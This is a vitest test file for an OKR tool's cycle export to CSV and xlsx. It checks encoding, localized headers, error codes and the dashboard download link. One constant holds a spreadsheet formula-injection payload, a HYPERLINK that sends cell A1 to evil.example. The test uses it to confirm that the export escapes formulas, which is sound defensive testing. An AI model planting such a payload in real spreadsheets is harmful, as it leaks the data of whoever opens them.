// Export of a cycle's objectives and KRs: CSV (UTF-8 with BOM, formula text neutralised) and
// xlsx (read back from its zip), from the API and the dashboard's download link; bad requests.
import { strFromU8, unzipSync } from 'fflate';
import { XMLParser } from 'fast-xml-parser';
import Papa from 'papaparse';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { objectives } from '../../storage/schema';
import { ADMIN_TOKEN, createTestApp } from '../helpers/app';
import { IDS, seedSmallOrg } from '../helpers/fixtures';

let h: ReturnType<typeof createTestApp>;
beforeEach(async () => {
  h = createTestApp();
  await seedSmallOrg(h.store);
});
afterEach(() => h.close());

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")';

async function csvOf(path: string) {
  const res = await h.api('GET', path);
  expect(res.status).toBe(200);
  const bytes = new Uint8Array(await res.arrayBuffer());
  return { res, bytes, rows: Papa.parse<string[]>(new TextDecoder().decode(bytes).replace(/^\uFEFF/, '')).data };
}

/** The sheet's rows as arrays of cell texts (numbers as written), read from the xlsx zip. */
function sheetRows(bytes: Uint8Array): { rows: (string | number)[][]; raw: string; files: string[] } {
  const files = unzipSync(bytes);
  const raw = strFromU8(files['xl/worksheets/sheet1.xml']);
  const parsed = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'row' || name === 'c' }).parse(
    raw,
  );
  const rows = parsed.worksheet.sheetData.row.map((r: { c: { is?: { t: unknown }; v?: unknown }[] }) =>
    r.c.map((c) =>
      c.is ? String(typeof c.is.t === 'object' ? (c.is.t as { '#text': unknown })['#text'] : c.is.t) : Number(c.v),
    ),
  );
  return { rows, raw, files: Object.keys(files) };
}

describe('GET /api/v1/cycles/:id/export', () => {
  it('CSV: UTF-8 with BOM, one row per KR with progress, status, owner and alignment, in Chinese by default', async () => {
    const { res, bytes, rows } = await csvOf(`/api/v1/cycles/current/export?format=csv`);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toContain(`filename="okrs-${IDS.cycle}.csv"`);
    expect(res.headers.get('content-disposition')).toContain("filename*=UTF-8''okrs-2026%20Q4.csv");
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...body] = rows.filter((r) => r.length > 1);
    expect(header.slice(0, 6)).toEqual(['目标编号', '目标', '负责类型', '负责人', '目标进度(%)', '目标状态']);
    const col = (name: string) => header.indexOf(name);
    const kr1 = body.find((r) => r[col('关键结果编号')] === IDS.aliceKr1)!;
    expect(kr1[col('目标')]).toBe('提升课程满意度');
    expect(kr1[col('负责类型')]).toBe('个人');
    expect(kr1[col('负责人')]).toBeTruthy();
    expect(kr1[col('对齐的上级目标')]).toBe('成为区域口碑第一的教育品牌');
    expect(kr1[col('对齐的上级关键结果')]).toBe('学员续费率提升至68%');
    expect(Number(kr1[col('关键结果进度(%)')])).toBe(30);
    expect(['正常', '有风险', '落后', '已完成', '未开始']).toContain(kr1[col('关键结果状态')]);
    const company = body.find((r) => r[col('目标编号')] === IDS.companyObjective)!;
    expect(company[col('负责类型')]).toBe('公司');
    expect(company[col('负责人')]).toBe('Acme 教育');
    // Every KR of the cycle is there once.
    expect(body.filter((r) => r[col('关键结果编号')]).length).toBe(5);
  });

  it('neutralises text a spreadsheet would run as a formula, in CSV and xlsx, and keeps numbers numeric', async () => {
    await h.api('PATCH', `/api/v1/objectives/${IDS.aliceObjective}`, { title: EVIL });
    await h.api('PATCH', `/api/v1/objectives/${IDS.bobObjective}`, { title: '@SUM(1+1)' });
    const { rows } = await csvOf(`/api/v1/cycles/${IDS.cycle}/export`);
    const titles = rows.map((r) => r[1]);
    expect(titles).toContain(`'${EVIL}`);
    expect(titles).toContain(`'@SUM(1+1)`);
    expect(titles.some((t) => t?.startsWith('='))).toBe(false);

    const res = await h.api('GET', `/api/v1/cycles/${IDS.cycle}/export?format=xlsx`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    const sheet = sheetRows(new Uint8Array(await res.arrayBuffer()));
    expect(sheet.files.sort()).toEqual(
      [
        '[Content_Types].xml',
        '_rels/.rels',
        'xl/_rels/workbook.xml.rels',
        'xl/styles.xml',
        'xl/workbook.xml',
        'xl/worksheets/sheet1.xml',
      ].sort(),
    );
    expect(sheet.raw).not.toContain('<f>');
    const xlsxTitles = sheet.rows.map((r) => r[1]);
    expect(xlsxTitles).toContain(`'${EVIL}`);
    expect(sheet.rows[0][0]).toBe('目标编号');
    // Numbers are numeric cells: the KR progress of Alice's KR1 is 30.
    const kr1 = sheet.rows.find((r) => r.includes(IDS.aliceKr1))!;
    expect(kr1).toContain(30);
  });

  it('English headers and labels with lang=en, never mixed', async () => {
    const { rows } = await csvOf(`/api/v1/cycles/current/export?lang=en`);
    expect(rows[0].slice(0, 3)).toEqual(['Objective ID', 'Objective', 'Owner type']);
    const text = rows.flat().join(' ');
    expect(text).toMatch(/Person|Team|Company/);
    expect(text).not.toMatch(/个人|团队|公司|正常|有风险|落后|未开始/);
  });

  it('refuses a bad format or language, an unknown cycle, and callers without the admin token', async () => {
    expect((await h.api('GET', `/api/v1/cycles/current/export?format=pdf`)).status).toBe(400);
    expect((await h.api('GET', `/api/v1/cycles/current/export?lang=fr`)).status).toBe(400);
    const missing = await h.api('GET', `/api/v1/cycles/nope/export`);
    expect(missing.status).toBe(404);
    expect(((await missing.json()) as { error: { code: string } }).error.code).toBe('not_found');
    const anonymous = await h.app.request(`/api/v1/cycles/current/export`);
    expect(anonymous.status).toBe(401);
  });

  it('the dashboard shows admins a download link that serves the same file', async () => {
    const page = await h.app.request('/dashboard', { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
    const html = await page.text();
    expect(html).toContain(`/dashboard/data/export?format=csv&amp;cycle=${IDS.cycle}`);
    expect(html).toContain('下载 Excel');
    const file = await h.app.request(`/dashboard/data/export?format=xlsx&cycle=${IDS.cycle}`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    expect(file.status).toBe(200);
    const sheet = sheetRows(new Uint8Array(await file.arrayBuffer()));
    expect(sheet.rows).toHaveLength(6); // the header and the five KRs
    const bad = await h.app.request(`/dashboard/data/export?format=doc&cycle=${IDS.cycle}`, {
      headers: { authorization: `Bearer ${ADMIN_TOKEN}` },
    });
    expect(bad.status).toBe(400);
    expect((await h.store.db.select().from(objectives)).length).toBe(3);
  });
});
